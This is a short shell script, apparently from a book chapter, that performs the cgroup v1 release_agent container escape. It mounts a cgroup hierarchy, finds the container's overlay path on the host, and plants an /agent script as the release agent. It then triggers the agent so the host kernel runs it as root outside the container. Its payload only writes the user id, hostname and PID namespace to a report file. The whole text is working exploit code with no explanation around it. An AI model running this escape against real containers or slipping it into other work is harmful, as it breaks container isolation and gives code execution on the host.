# Chapter 16. Run in a box, by root: lets the kernel start a program on the machine.
hierarchy=$1 outside=$2
mkdir -p /tmp/groups
mount -t cgroup -o "none,name=$hierarchy" groups /tmp/groups || exit 1
layer=$(sed -n 's/.* \/ \/ .*upperdir=\([^,]*\).*/\1/p' /proc/self/mountinfo)
cat > /agent <<end
#!/bin/sh
{ id -u; hostname; readlink /proc/self/ns/pid; } > $outside/tmp/report
end
chmod +x /agent
echo "$outside$layer/agent" > /tmp/groups/release_agent
mkdir -p /tmp/groups/trap
echo 1 > /tmp/groups/trap/notify_on_release
sh -c 'echo $$ > /tmp/groups/trap/cgroup.procs'
